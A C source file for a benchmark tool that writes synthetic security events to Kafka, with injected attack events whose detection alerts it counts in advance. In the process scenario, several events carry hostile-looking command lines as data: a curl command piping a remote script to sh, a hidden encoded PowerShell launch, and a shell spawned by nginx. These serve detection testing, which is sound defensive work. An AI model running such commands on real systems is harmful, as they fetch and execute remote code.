/* SPDX-License-Identifier: Apache-2.0 */
/*
 * produce.c - `vigil-bench produce`: synthetic events for a scenario at a target rate, with
 * injected attacks whose alerts it counts in advance.
 *
 * Every event carries its generation time twice: the `ts` field (epoch ms) and the Kafka
 * record timestamp, so latency can be measured from broker timestamps alone. Records are keyed
 * by the scenario's key field and sent to partition FNV-1a(key) % partitions (explicitly: the
 * sticky partitioner of librdkafka 2.0.2 piles a fast producer's data onto few partitions),
 * so one key's events stay in order in one partition, as the rules' suppression assumes.
 *
 * Scenarios and what their attacks cause (normal traffic causes no alert):
 *   auth     topologies/auth_anomalies.yaml (key user, suppress 10m per rule and user):
 *            attack kinds cycle AUTH-101 (success from an embargoed country, unique user),
 *            AUTH-102 (root password login: one user, so suppression applies and the count
 *            follows the 10-minute spans of event time), AUTH-103 (Tor range, unique user).
 *   process  topologies/suspicious_process.yaml (no suppression): PROC-001/002/003 in turn,
 *            one alert per attack.
 *   rules20  bench/scenarios/rules20.yaml: every 10th event matches exactly one of 20 rules
 *            (no suppression); --attacks is ignored.
 *   window   bench/scenarios/window.yaml (sliding 5m every 30s per user, WIN-001 when a user
 *            has >= 50 failures in a window, no suppression): --keys users (default 100,000),
 *            event time spread evenly over --span seconds (default 1200) ending a minute ago,
 *            the record timestamp is the wall clock. Normal users fail about 2 times per 5
 *            minutes; an attack is a burst of 60 failures of one new user at one instant, in
 *            the first 70% of the span so that every window holding it closes: 10 alerts (one
 *            per sliding window containing it). Bursts replace normal events, so --events
 *            counts them.
 *   brute    topologies/brute_force.yaml (AUTH-001, suppress 15m per user): the window
 *            scenario's events and bursts; a burst (60 failures of a new user from random
 *            10.x addresses) causes one alert. For the demo: --keys 20000 keeps normal users
 *            far below 10 failures in 5 minutes.
 *   flows    topologies/port_scan.yaml (tumbling 1m per src_ip): flows from a pool of outside
 *            addresses to a few ports of inside hosts, plus inside-to-inside flows the filter
 *            drops. Attacks alternate: 50 ports on one host (NET-001), and 50 ports over 12
 *            hosts (NET-001 and NET-002), each from a new outside address at one instant.
 *   applog   topologies/error_bursts.yaml (session 2m per session): log lines of --keys
 *            sessions, one user each, 5% errors. Attacks alternate: 6 errors in a new session
 *            (APP-001), and 2 errors of two users in a new session (APP-002).
 *   logins,  topologies/impossible_travel.yaml, one generator per topic, run with the same
 *   vpn      options: event i is a login of user hash(i) % --keys from the user's home country
 *            on host-<user> (logins), and that user's VPN session a minute later from the same
 *            country (vpn), so normal pairs never alert. An attack is a new user
 *            (traveler-<n>) whose session comes from another country: one alert (TRAVEL-001).
 *            The asset table rows are asset:host-<user> (bench/join.sh, deploy/demo.sh).
 *   The window, brute, flows, applog, logins and vpn scenarios spread event time over --span
 *   seconds ending a minute ago, whatever the rate: a demo compresses 20 minutes of event
 *   time into a few seconds, and windows close as they would in 20 minutes. Their attacks
 *   sit in the first 70% of the span, so every window holding one closes.
 * --bad N adds N undecodable records spread over the run (they go to the dead letters).
 * --batch N writes the topic in batches of N records per partition (linger 1 s), so its
 * layout on the broker does not depend on how fast the machine was: consumers read whole
 * batches, and how many records a partition gives at a time changes both the consume
 * baseline and a replay (docs/benchmarks.md). Without it: vigil's producer settings.
 * The expectation file: {"scenario","events","bad","attacks","alerts","by_rule":{...}}.
 *
 * Thread: main (plus librdkafka's own threads).
 */
#include <errno.h>
#include <getopt.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <avro.h>
#include <zlib.h>

#include "bench.h"
#include "bench_common.h"
#include "codec.h"

enum scenario {
    SC_AUTH, SC_PROCESS, SC_RULES20, SC_WINDOW, SC_BRUTE, SC_FLOWS, SC_APPLOG, SC_LOGINS, SC_VPN
};

struct gen {
    enum scenario sc;
    uint64_t rng;
    long long attacks_done;
    vg_time_ms root_until;      /* AUTH-102 suppression for user root */
    long long by_rule[32];
    const char *const *rule_names;
    size_t n_rules;
    long long keys;             /* window: distinct users */
    vg_time_ms t0, span_ms;     /* window: event time of the first event, and the span */
    int burst_left;             /* window, brute, flows, applog: events still to send in */
    long long burst_user;       /* the current burst, of attack number burst_user, */
    vg_time_ms burst_ts;        /* all at this event time, */
    int burst_kind;             /* of this kind */
};

static const char *const auth_rules[] = {"AUTH-101", "AUTH-102", "AUTH-103"};
static const char *const proc_rules[] = {"PROC-001", "PROC-002", "PROC-003"};
static const char *const win_rules[] = {"WIN-001"};
static const char *const brute_rules[] = {"AUTH-001"};
static const char *const flow_rules[] = {"NET-001", "NET-002"};
static const char *const app_rules[] = {"APP-001", "APP-002"};
static const char *const travel_rules[] = {"TRAVEL-001"};
static const char *const r20_rules[] = {
    "R20-01", "R20-02", "R20-03", "R20-04", "R20-05", "R20-06", "R20-07", "R20-08", "R20-09", "R20-10",
    "R20-11", "R20-12", "R20-13", "R20-14", "R20-15", "R20-16", "R20-17", "R20-18", "R20-19", "R20-20"};

/* --scenario: its generator, the rules its attacks trigger, and whether its event time is
 * spread over --span (see the header) */
static const struct {
    const char *name;
    enum scenario sc;
    const char *const *rules;
    size_t n_rules;
    bool spread;
} scenarios[] = {
    {"auth", SC_AUTH, auth_rules, 3, false},     {"process", SC_PROCESS, proc_rules, 3, false},
    {"rules20", SC_RULES20, r20_rules, 20, false}, {"window", SC_WINDOW, win_rules, 1, true},
    {"brute", SC_BRUTE, brute_rules, 1, true},   {"flows", SC_FLOWS, flow_rules, 2, true},
    {"applog", SC_APPLOG, app_rules, 2, true},   {"logins", SC_LOGINS, travel_rules, 1, true},
    {"vpn", SC_VPN, travel_rules, 1, true},
};

static volatile sig_atomic_t produce_stop;

static void on_signal(int sig)
{
    (void)sig;
    produce_stop = 1;
}

static uint64_t rnd(struct gen *g)
{
    g->rng ^= g->rng << 13;
    g->rng ^= g->rng >> 7;
    g->rng ^= g->rng << 17;
    return g->rng;
}

#define PICK(g, a) ((a)[rnd(g) % (sizeof(a) / sizeof((a)[0]))])

static const char *const countries[] = {"FR", "DE", "US", "GB", "JP", "BR", "IN", "NL", "SE", "CA"};
static const char *const cities[] = {"Paris", "Berlin", "Boston", "London", "Tokyo",
                                     "Recife", "Pune", "Utrecht", "Malmo", "Toronto"};
static const char *const embargoed[] = {"KP", "IR", "SY", "CU"};
static const char *const methods[] = {"password", "publickey", "mfa"};
static const char *const hosts[] = {"web-1", "web-2", "db-1", "bastion", "ci-runner", "mail"};

/* One auth event into buf; returns the key (user) in key. */
static void auth_event(struct gen *g, long long i, vg_time_ms ts, int attack, char *buf,
                       size_t size, char *key, size_t key_size)
{
    char user[64], ip[64];
    const char *outcome = rnd(g) % 5 == 0 ? "failure" : "success", *method = PICK(g, methods);
    int c = (int)(rnd(g) % 10);
    const char *country = countries[c], *city = cities[c];
    snprintf(user, sizeof(user), "u%05llu", (unsigned long long)(rnd(g) % 20000));
    uint64_t r = rnd(g);
    snprintf(ip, sizeof(ip), "10.%u.%u.%u", (unsigned)(r & 255), (unsigned)((r >> 8) & 255),
             (unsigned)((r >> 16) & 255));
    switch (attack) {
    case 0: /* AUTH-101 */
        snprintf(user, sizeof(user), "geo-%lld", g->attacks_done);
        outcome = "success";
        method = "publickey";
        country = embargoed[g->attacks_done % 4];
        city = "-";
        break;
    case 1: /* AUTH-102 */
        snprintf(user, sizeof(user), "root");
        outcome = "success";
        method = "password";
        break;
    case 2: /* AUTH-103 */
        snprintf(user, sizeof(user), "tor-%lld", g->attacks_done);
        outcome = "failure";
        snprintf(ip, sizeof(ip), "185.220.%u.%u", 100 + (unsigned)(r % 4),
                 (unsigned)((r >> 8) & 255));
        break;
    default:
        break;
    }
    snprintf(buf, size,
             "{\"ts\":%lld,\"user\":\"%s\",\"src_ip\":\"%s\",\"outcome\":\"%s\",\"host\":\"%s\","
             "\"method\":\"%s\",\"geo\":{\"country\":\"%s\",\"city\":\"%s\"},\"seq\":%lld}",
             (long long)ts, user, ip, outcome, PICK(g, hosts), method, country, city, i);
    snprintf(key, key_size, "%s", user);
}

static const char *const normal_images[][3] = {
    {"/usr/bin/ls", "ls -la /var/log", "/bin/bash"},
    {"/usr/bin/python3", "python3 /opt/app/worker.py --queue default", "/usr/lib/systemd/systemd"},
    {"/usr/bin/curl", "curl -s https://status.example.com/health -o /dev/null", "/bin/bash"},
    {"C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs", "C:\\Windows\\System32\\services.exe"},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -File C:\\scripts\\backup.ps1", "C:\\Windows\\explorer.exe"},
    {"/bin/bash", "bash -c 'make -j4'", "/usr/bin/sshd"},
    {"/usr/bin/git", "git fetch --all", "/bin/bash"},
};

static void process_event(struct gen *g, long long i, vg_time_ms ts, int attack, char *buf,
                          size_t size, char *key, size_t key_size)
{
    char host[32];
    snprintf(host, sizeof(host), "host-%03u", (unsigned)(rnd(g) % 500));
    const char *const *e = normal_images[rnd(g) % 7];
    const char *image = e[0], *cmd = e[1], *parent = e[2];
    switch (attack) {
    case 0:
        image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe";
        cmd = "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA";
        parent = "C:\\Windows\\System32\\cmd.exe";
        break;
    case 1:
        image = "/usr/bin/curl";
        cmd = "curl -fsSL http://203.0.113.7/x.sh | sh";
        parent = "/bin/bash";
        break;
    case 2:
        image = "/bin/sh";
        cmd = "sh -c id";
        parent = "/usr/sbin/nginx";
        break;
    default:
        break;
    }
    struct vg_buf b;
    vg_buf_init(&b);
    vg_buf_printf(&b, "{\"ts\":%lld,\"host\":\"%s\",\"user\":\"svc\",\"pid\":%u,\"image\":",
                  (long long)ts, host, (unsigned)(1000 + rnd(g) % 60000));
    vg_buf_json_str(&b, image, strlen(image));
    vg_buf_puts(&b, ",\"command_line\":");
    vg_buf_json_str(&b, cmd, strlen(cmd));
    vg_buf_puts(&b, ",\"parent_image\":");
    vg_buf_json_str(&b, parent, strlen(parent));
    vg_buf_printf(&b, ",\"seq\":%lld}", i);
    snprintf(buf, size, "%.*s", (int)b.len, b.data);
    vg_buf_fini(&b);
    snprintf(key, key_size, "%s", host);
}

static void rules20_event(struct gen *g, long long i, vg_time_ms ts, int *rule, char *buf,
                          size_t size, char *key, size_t key_size)
{
    char action[16];
    *rule = -1;
    if (i % 10 == 0) {
        *rule = (int)((i / 10) % 20);
        snprintf(action, sizeof(action), "a%02d", *rule + 1);
    } else {
        snprintf(action, sizeof(action), "%s", rnd(g) % 2 ? "read" : "list");
    }
    char user[32];
    snprintf(user, sizeof(user), "u%05u", (unsigned)(rnd(g) % 20000));
    uint64_t r = rnd(g);
    snprintf(buf, size,
             "{\"ts\":%lld,\"user\":\"%s\",\"src_ip\":\"10.%u.%u.%u\",\"outcome\":\"%s\","
             "\"action\":\"%s\",\"host\":\"%s\",\"bytes\":%u,\"seq\":%lld}",
             (long long)ts, user, (unsigned)(r & 255), (unsigned)((r >> 8) & 255),
             (unsigned)((r >> 16) & 255), r % 3 ? "success" : "failure", action, PICK(g, hosts),
             (unsigned)(r >> 40) % 100000, i);
    snprintf(key, key_size, "%s", user);
}

/* The event time of the i-th of total events of a spread scenario (see the header). */
static vg_time_ms spread_ts(const struct gen *g, long long i, long long total)
{
    return g->t0 + (vg_time_ms)((double)i * (double)g->span_ms / (double)total);
}

/* Spread scenarios: attack >= 0 starts a burst of len events of attack number attacks_done,
 * of kind attacks_done % 2, all at event time ts. */
static void burst_start(struct gen *g, int attack, int len, vg_time_ms ts)
{
    if (attack < 0)
        return;
    g->burst_left = len;
    g->burst_user = g->attacks_done;
    g->burst_kind = (int)(g->attacks_done % 2);
    g->burst_ts = ts;
}

/* window scenario: one login event of n; attack starts a burst (see the header) */
#define WIN_BURST 60
#define WIN_ALERTS_PER_BURST 10
static void window_event(struct gen *g, long long i, long long total, int attack, char *buf,
                         size_t size, char *key, size_t key_size)
{
    char user[32];
    vg_time_ms ts = spread_ts(g, i, total);
    burst_start(g, attack, WIN_BURST, ts);
    uint64_t r = rnd(g);
    const char *outcome = r % 5 ? "failure" : "success";
    if (g->burst_left > 0) {
        g->burst_left--;
        snprintf(user, sizeof(user), "attacker-%lld", g->burst_user);
        ts = g->burst_ts;
        outcome = "failure";
    } else {
        snprintf(user, sizeof(user), "u%07llu", (unsigned long long)(rnd(g) % (uint64_t)g->keys));
    }
    snprintf(buf, size,
             "{\"ts\":%lld,\"user\":\"%s\",\"src_ip\":\"10.%u.%u.%u\",\"outcome\":\"%s\","
             "\"action\":\"login\",\"host\":\"%s\"}",
             (long long)ts, user, (unsigned)(r >> 8 & 3), (unsigned)((r >> 16) & 255),
             (unsigned)((r >> 24) & 255), outcome, PICK(g, hosts));
    snprintf(key, key_size, "%s", user);
}

/* logins and vpn scenarios: event i of one side (see the header) */
static void travel_event(struct gen *g, long long i, long long total, int attack, char *buf,
                         size_t size, char *key, size_t key_size)
{
    vg_time_ms ts = spread_ts(g, i, total);
    uint64_t h = (uint64_t)i * 0x9e3779b97f4a7c15ull;
    h ^= h >> 29;
    char user[32];
    unsigned home;
    if (attack >= 0) {
        snprintf(user, sizeof(user), "traveler-%lld", g->attacks_done);
        home = (unsigned)(g->attacks_done % 10);
    } else {
        unsigned long long u = (unsigned long long)(h % (uint64_t)g->keys);
        snprintf(user, sizeof(user), "u%06llu", u);
        home = (unsigned)(u * 7 % 10);
    }
    if (g->sc == SC_LOGINS)
        snprintf(buf, size,
                 "{\"ts\":%lld,\"user\":\"%s\",\"country\":\"%s\",\"host\":\"host-%s\","
                 "\"method\":\"%s\"}",
                 (long long)ts, user, countries[home], user + (attack >= 0 ? 0 : 1),
                 methods[h % 3]);
    else
        snprintf(buf, size,
                 "{\"ts\":%lld,\"user\":\"%s\",\"country\":\"%s\",\"gateway\":\"vpn-%u\"}",
                 (long long)(ts + 60000), user, countries[attack >= 0 ? (home + 1) % 10 : home],
                 (unsigned)(h >> 40) % 8);
    snprintf(key, key_size, "%s", user);
}

/* flows scenario: one flow; attack starts a scan (see the header) */
#define SCAN_PORTS 50
static void flow_event(struct gen *g, long long i, long long total, int attack, char *buf,
                       size_t size, char *key, size_t key_size)
{
    static const int ports[] = {80, 443, 22, 53, 25, 8080};
    vg_time_ms ts = spread_ts(g, i, total);
    burst_start(g, attack, SCAN_PORTS, ts);
    uint64_t r = rnd(g);
    char src[32], dst[32];
    int port = PICK(g, ports);
    if (g->burst_left > 0) {
        int n = SCAN_PORTS - g->burst_left--;
        snprintf(src, sizeof(src), "192.0.%u.%u", (unsigned)(g->burst_user / 250) % 256,
                 (unsigned)(g->burst_user % 250) + 1);
        snprintf(dst, sizeof(dst), "10.1.0.%d", g->burst_kind ? 1 + n % 12 : 7);
        port = 1000 + n;
        ts = g->burst_ts;
    } else if (r % 4 == 0) { /* inside to inside: filtered out */
        snprintf(src, sizeof(src), "10.2.%u.%u", (unsigned)(r >> 8) % 256, (unsigned)(r >> 16) % 256);
        snprintf(dst, sizeof(dst), "10.1.0.%u", (unsigned)(r >> 24) % 50 + 1);
    } else {
        snprintf(src, sizeof(src), "203.0.%u.%u", (unsigned)(r >> 8) % 4,
                 (unsigned)(rnd(g) % (uint64_t)g->keys) % 256);
        snprintf(dst, sizeof(dst), "10.1.0.%u", (unsigned)(r >> 24) % 50 + 1);
    }
    snprintf(buf, size,
             "{\"ts\":%lld,\"src_ip\":\"%s\",\"dst_ip\":\"%s\",\"dst_port\":%d,"
             "\"proto\":\"tcp\",\"bytes\":%u}",
             (long long)ts, src, dst, port, (unsigned)(r >> 40) % 100000);
    snprintf(key, key_size, "%s", src);
}

/* applog scenario: one log line; attack starts a burst in a new session (see the header) */
static void applog_event(struct gen *g, long long i, long long total, int attack, char *buf,
                         size_t size, char *key, size_t key_size)
{
    vg_time_ms ts = spread_ts(g, i, total);
    burst_start(g, attack, g->attacks_done % 2 ? 2 : 6, ts); /* two users, or six errors */
    uint64_t r = rnd(g);
    char session[32], user[32];
    const char *level = r % 20 == 0 ? "error" : "info";
    if (g->burst_left > 0) {
        g->burst_left--;
        snprintf(session, sizeof(session), "attack-%lld", g->burst_user);
        snprintf(user, sizeof(user), "%s", g->burst_kind && g->burst_left ? "mallory" : "bob");
        level = "error";
        ts = g->burst_ts;
    } else {
        unsigned long long s = (unsigned long long)(rnd(g) % (uint64_t)g->keys);
        snprintf(session, sizeof(session), "s%06llu", s);
        snprintf(user, sizeof(user), "u%06llu", s); /* one user per session */
    }
    snprintf(buf, size,
             "{\"ts\":%lld,\"session\":\"%s\",\"user\":\"%s\",\"level\":\"%s\","
             "\"msg\":\"%s %u\"}",
             (long long)ts, session, user, level,
             !strcmp(level, "error") ? "upstream timeout" : "request served", (unsigned)(r >> 32) % 1000);
    snprintf(key, key_size, "%s", session);
}

static void usage(FILE *out)
{
    fprintf(out,
            "usage: vigil-bench produce --topic T | --out FILE(.gz)\n"
            "         [--scenario auth|process|rules20|window|brute|flows|applog|logins|vpn]\n"
            "         [--rate EPS (0: as fast as possible)] [--duration S | --events N]\n"
            "         [--attacks N] [--bad N] [--partitions N] [--seed N] [--format json|avro]\n"
            "         [--schema PATH] [--expect-file F] [--brokers B] [--create]\n"
            "         [--keys N] [--span S] (window, brute, flows, applog, logins, vpn)\n"
            "         [--batch N] (records per partition and batch)\n");
}

static void dr_cb(rd_kafka_t *rk, const rd_kafka_message_t *m, void *opaque)
{
    (void)rk;
    long long *failed = opaque;
    if (m->err) {
        if (*failed == 0)
            fprintf(stderr, "vigil-bench produce: delivery failed: %s\n", rd_kafka_err2str(m->err));
        (*failed)++;
    }
}

int vg_bench_produce_main(int argc, char **argv)
{
    const char *brokers = getenv("KAFKA_BROKERS"), *topic = NULL, *scenario = "auth";
    const char *expect_file = NULL, *format = "json", *schema_path = "schemas/auth_event.avsc";
    const char *out_path = NULL;
    double rate = 1000, duration = 10;
    long long events = -1, attacks = 0, bad = 0, seed = 42, keys = 100000;
    double span = 1200;
    int partitions = 4, create = 0;
    const char *batch = NULL;
    static const struct option opts[] = {
        {"brokers", required_argument, NULL, 'b'}, {"topic", required_argument, NULL, 't'},
        {"scenario", required_argument, NULL, 's'}, {"rate", required_argument, NULL, 'r'},
        {"duration", required_argument, NULL, 'd'}, {"events", required_argument, NULL, 'n'},
        {"attacks", required_argument, NULL, 'a'}, {"bad", required_argument, NULL, 'x'},
        {"partitions", required_argument, NULL, 'p'}, {"seed", required_argument, NULL, 'S'},
        {"format", required_argument, NULL, 'f'}, {"schema", required_argument, NULL, 'c'},
        {"expect-file", required_argument, NULL, 'e'}, {"create", no_argument, NULL, 'C'},
        {"keys", required_argument, NULL, 'k'}, {"span", required_argument, NULL, 'w'},
        {"out", required_argument, NULL, 'o'}, {"batch", required_argument, NULL, 'B'},
        {"help", no_argument, NULL, 'h'}, {0}};
    int c;
    optind = 1;
    while ((c = getopt_long(argc, argv, "h", opts, NULL)) != -1) {
        switch (c) {
        case 'b': brokers = optarg; break;
        case 't': topic = optarg; break;
        case 's': scenario = optarg; break;
        case 'r': rate = atof(optarg); break;
        case 'd': duration = atof(optarg); break;
        case 'n': events = atoll(optarg); break;
        case 'a': attacks = atoll(optarg); break;
        case 'x': bad = atoll(optarg); break;
        case 'p': partitions = atoi(optarg); break;
        case 'S': seed = atoll(optarg); break;
        case 'f': format = optarg; break;
        case 'c': schema_path = optarg; break;
        case 'e': expect_file = optarg; break;
        case 'C': create = 1; break;
        case 'k': keys = atoll(optarg); break;
        case 'w': span = atof(optarg); break;
        case 'o': out_path = optarg; break;
        case 'B': batch = optarg; break;
        case 'h': usage(stdout); return 0;
        default: usage(stderr); return 2;
        }
    }
    struct gen g = {.rng = (uint64_t)seed * 2654435761u + 88172645463325252ull};
    size_t sc = 0;
    while (sc < VG_ARRAY_LEN(scenarios) && strcmp(scenarios[sc].name, scenario) != 0)
        sc++;
    if (sc == VG_ARRAY_LEN(scenarios)) {
        fprintf(stderr, "vigil-bench produce: unknown scenario '%s' (auth, process, rules20, "
                        "window, brute, flows, applog, logins, vpn)\n", scenario);
        return 2;
    }
    g.sc = scenarios[sc].sc;
    g.rule_names = scenarios[sc].rules;
    g.n_rules = scenarios[sc].n_rules;
    bool spread = scenarios[sc].spread;
    if (g.sc == SC_RULES20)
        attacks = 0;
    if (spread) {
        g.keys = keys > 0 ? keys : 1;
        g.span_ms = (vg_time_ms)(span * 1000);
        g.t0 = (vg_now_ms() - 60000 - g.span_ms) / 30000 * 30000;
    }
    if ((!out_path && (!brokers || !topic)) || partitions < 1 || rate < 0 ||
        (events < 0 && rate == 0)) {
        fprintf(stderr, "vigil-bench produce: --topic and --brokers (or KAFKA_BROKERS), or --out, "
                        "are required; --rate 0 needs --events\n");
        usage(stderr);
        return 2;
    }
    long long total = events >= 0 ? events : (long long)(rate * duration);
    if (attacks > total)
        attacks = total;
    struct vg_avro_schema *schema = NULL;
    if (!strcmp(format, "avro")) {
        struct vg_err err = {0};
        if (g.sc != SC_AUTH || !(schema = vg_avro_schema_load(schema_path, &err))) {
            fprintf(stderr, "vigil-bench produce: avro needs --scenario auth and a schema: %s\n",
                    err.msg);
            return 2;
        }
    }
    /* --out: an archive instead of the topic (JSON lines, gzip for .gz; an Avro object
     * container for --format avro) */
    FILE *out_fp = NULL;
    gzFile out_gz = NULL;
    avro_file_writer_t out_avro = NULL;
    if (out_path) {
        bool ok;
        if (schema) {
            char *text = NULL;
            size_t tlen = 0;
            FILE *sf = fopen(schema_path, "r");
            avro_schema_t as = NULL;
            if (sf) {
                text = calloc(1, 1 << 20);
                tlen = fread(text, 1, (1 << 20) - 1, sf);
                fclose(sf);
            }
            ok = text && avro_schema_from_json_length(text, tlen, &as) == 0 &&
                 avro_file_writer_create(out_path, as, &out_avro) == 0;
            if (as)
                avro_schema_decref(as);
            free(text);
        } else if (strlen(out_path) > 3 && !strcmp(out_path + strlen(out_path) - 3, ".gz")) {
            ok = (out_gz = gzopen(out_path, "wb1")) != NULL;
        } else {
            ok = (out_fp = fopen(out_path, "w")) != NULL;
        }
        if (!ok) {
            fprintf(stderr, "vigil-bench produce: cannot write %s: %s\n", out_path,
                    schema ? avro_strerror() : strerror(errno));
            return 1;
        }
    }
    long long failed = 0;
    rd_kafka_t *rk = NULL; /* none with --out */
    if (!out_path) {
        rd_kafka_conf_t *conf = vg_bench_conf(brokers, VG_KAFKA_PRODUCER, NULL);
        if (!conf)
            return 1;
        rd_kafka_conf_set_dr_msg_cb(conf, dr_cb);
        rd_kafka_conf_set_opaque(conf, &failed);
        char errstr[512];
        if (batch && (rd_kafka_conf_set(conf, "batch.num.messages", batch, errstr,
                                        sizeof(errstr)) != RD_KAFKA_CONF_OK ||
                      rd_kafka_conf_set(conf, "linger.ms", "1000", errstr, sizeof(errstr)) !=
                          RD_KAFKA_CONF_OK ||
                      rd_kafka_conf_set(conf, "queue.buffering.max.messages", "2000000", errstr,
                                        sizeof(errstr)) != RD_KAFKA_CONF_OK)) {
            fprintf(stderr, "vigil-bench produce: --batch: %s\n", errstr);
            rd_kafka_conf_destroy(conf);
            return 2;
        }
        if (!(rk = rd_kafka_new(RD_KAFKA_PRODUCER, conf, errstr, sizeof(errstr)))) {
            fprintf(stderr, "vigil-bench produce: %s\n", errstr);
            return 1;
        }
    }
    if (create && rk) {
        struct vg_err err = {0};
        if (vg_kafka_create_topic(rk, topic, partitions, 10000, &err) != 0)
            fprintf(stderr, "vigil-bench produce: create topic: %s\n", err.msg);
    }
    signal(SIGINT, on_signal);
    signal(SIGTERM, on_signal);
    char buf[2048], key[128];
    struct vg_buf avro;
    vg_buf_init(&avro);
    vg_time_ns start = vg_mono_ns();
    long long produced = 0, bad_done = 0;
    for (long long i = 0; i < total + bad && !produce_stop; i++) {
        if (rate > 0 && (i & 63) == 0) {
            vg_time_ns due = start + (vg_time_ns)((double)i / rate * 1e9);
            vg_time_ns now = vg_mono_ns();
            if (due > now) {
                struct timespec ts = {(time_t)((due - now) / 1000000000),
                                      (long)((due - now) % 1000000000)};
                nanosleep(&ts, NULL);
            }
        }
        vg_time_ms ts = vg_now_ms();
        /* the k-th of n specials sits at position (k + 1) * (total + bad) / (n + 1) */
        long long span = total + bad;
        bool is_bad = bad_done < bad && i >= (bad_done + 1) * span / (bad + 1);
        const void *value = buf;
        size_t len;
        if (is_bad) {
            snprintf(buf, sizeof(buf), bad_done % 2 ? "{\"ts\":%lld,\"user\":" : "not json %lld",
                     (long long)ts);
            snprintf(key, sizeof(key), "bad");
            bad_done++;
            len = strlen(buf);
        } else {
            long long n_ev = i - bad_done;
            int attack = -1;
            /* window bursts sit in the first 70% of the stream and never overlap */
            long long at_span = spread ? total * 7 / 10 : total;
            if (g.attacks_done < attacks && g.burst_left == 0 &&
                n_ev >= (g.attacks_done + 1) * at_span / (attacks + 1))
                attack = (int)(g.attacks_done % 3);
            if (g.sc == SC_AUTH) {
                auth_event(&g, n_ev, ts, attack, buf, sizeof(buf), key, sizeof(key));
                if (attack == 1) {
                    if (ts >= g.root_until) {
                        g.by_rule[1]++;
                        g.root_until = ts + 10 * 60 * 1000;
                    }
                } else if (attack >= 0) {
                    g.by_rule[attack]++;
                }
            } else if (g.sc == SC_PROCESS) {
                process_event(&g, n_ev, ts, attack, buf, sizeof(buf), key, sizeof(key));
                if (attack >= 0)
                    g.by_rule[attack]++;
            } else if (g.sc == SC_WINDOW || g.sc == SC_BRUTE) {
                window_event(&g, n_ev, total, attack, buf, sizeof(buf), key, sizeof(key));
                if (attack >= 0) /* brute: AUTH-001 once per attacker (suppress 15m) */
                    g.by_rule[0] += g.sc == SC_WINDOW ? WIN_ALERTS_PER_BURST : 1;
            } else if (g.sc == SC_FLOWS) {
                flow_event(&g, n_ev, total, attack, buf, sizeof(buf), key, sizeof(key));
                if (attack >= 0) {
                    g.by_rule[0]++;
                    g.by_rule[1] += g.attacks_done % 2; /* over 12 hosts: a sweep too */
                }
            } else if (g.sc == SC_LOGINS || g.sc == SC_VPN) {
                travel_event(&g, n_ev, total, attack, buf, sizeof(buf), key, sizeof(key));
                if (attack >= 0)
                    g.by_rule[0]++;
            } else if (g.sc == SC_APPLOG) {
                applog_event(&g, n_ev, total, attack, buf, sizeof(buf), key, sizeof(key));
                if (attack >= 0)
                    g.by_rule[g.attacks_done % 2]++;
            } else {
                int rule;
                rules20_event(&g, n_ev, ts, &rule, buf, sizeof(buf), key, sizeof(key));
                if (rule >= 0)
                    g.by_rule[rule]++;
            }
            if (attack >= 0)
                g.attacks_done++;
            len = strlen(buf);
            if (schema) {
                struct vg_err err = {0};
                vg_buf_clear(&avro);
                if (vg_avro_from_json(schema, buf, len, &avro, &err) != 0) {
                    fprintf(stderr, "vigil-bench produce: avro: %s\n", err.msg);
                    break;
                }
                value = avro.data;
                len = avro.len;
            }
        }
        int32_t part = vg_bench_partition(key, strlen(key), partitions);
        if (out_path) {
            bool ok = out_avro ? avro_file_writer_append_encoded(out_avro, value, (int64_t)len) == 0
                      : out_gz ? gzwrite(out_gz, value, (unsigned)len) == (int)len &&
                                     gzputc(out_gz, '\n') == '\n'
                               : fwrite(value, 1, len, out_fp) == len && fputc('\n', out_fp) != EOF;
            failed += !ok;
            produced++;
            continue;
        }
        for (;;) {
            rd_kafka_resp_err_t e = rd_kafka_producev(
                rk, RD_KAFKA_V_TOPIC(topic), RD_KAFKA_V_PARTITION(part),
                RD_KAFKA_V_MSGFLAGS(RD_KAFKA_MSG_F_COPY),
                RD_KAFKA_V_VALUE((void *)value, len), RD_KAFKA_V_KEY(key, strlen(key)),
                RD_KAFKA_V_TIMESTAMP(ts), RD_KAFKA_V_END);
            if (e == RD_KAFKA_RESP_ERR__QUEUE_FULL) {
                rd_kafka_poll(rk, 5);
                continue;
            }
            if (e) {
                fprintf(stderr, "vigil-bench produce: %s\n", rd_kafka_err2str(e));
                failed++;
            }
            break;
        }
        produced++;
        if ((i & 1023) == 0)
            rd_kafka_poll(rk, 0);
    }
    if (rk && rd_kafka_flush(rk, 30000) == RD_KAFKA_RESP_ERR__TIMED_OUT) {
        fprintf(stderr, "vigil-bench produce: %d records not delivered after 30 s\n",
                rd_kafka_outq_len(rk));
        failed += rd_kafka_outq_len(rk);
    }
    double secs = (double)(vg_mono_ns() - start) / 1e9;
    if (rk)
        rd_kafka_destroy(rk);
    if (out_fp && fclose(out_fp) != 0)
        failed++;
    if (out_gz && gzclose(out_gz) != Z_OK)
        failed++;
    if (out_avro && avro_file_writer_close(out_avro) != 0)
        failed++;
    vg_buf_fini(&avro);
    vg_avro_schema_free(schema);
    long long alerts = 0;
    for (size_t r = 0; r < g.n_rules; r++)
        alerts += g.by_rule[r];
    fprintf(stderr,
            "{\"produced\":%lld,\"events\":%lld,\"bad\":%lld,\"attacks\":%lld,\"alerts\":%lld,"
            "\"failed\":%lld,\"seconds\":%.3f,\"rate\":%.0f}\n",
            produced, produced - bad_done, bad_done, g.attacks_done, alerts, failed, secs,
            secs > 0 ? (double)produced / secs : 0.0);
    if (expect_file) {
        FILE *f = fopen(expect_file, "w");
        if (!f) {
            perror(expect_file);
            return 1;
        }
        fprintf(f, "{\"scenario\":\"%s\",\"events\":%lld,\"bad\":%lld,\"attacks\":%lld,"
                   "\"alerts\":%lld,\"by_rule\":{",
                scenario, produced - bad_done, bad_done, g.attacks_done, alerts);
        for (size_t r = 0; r < g.n_rules; r++)
            fprintf(f, "%s\"%s\":%lld", r ? "," : "", g.rule_names[r], g.by_rule[r]);
        fprintf(f, "}}\n");
        fclose(f);
    }
    return failed ? 1 : 0;
}
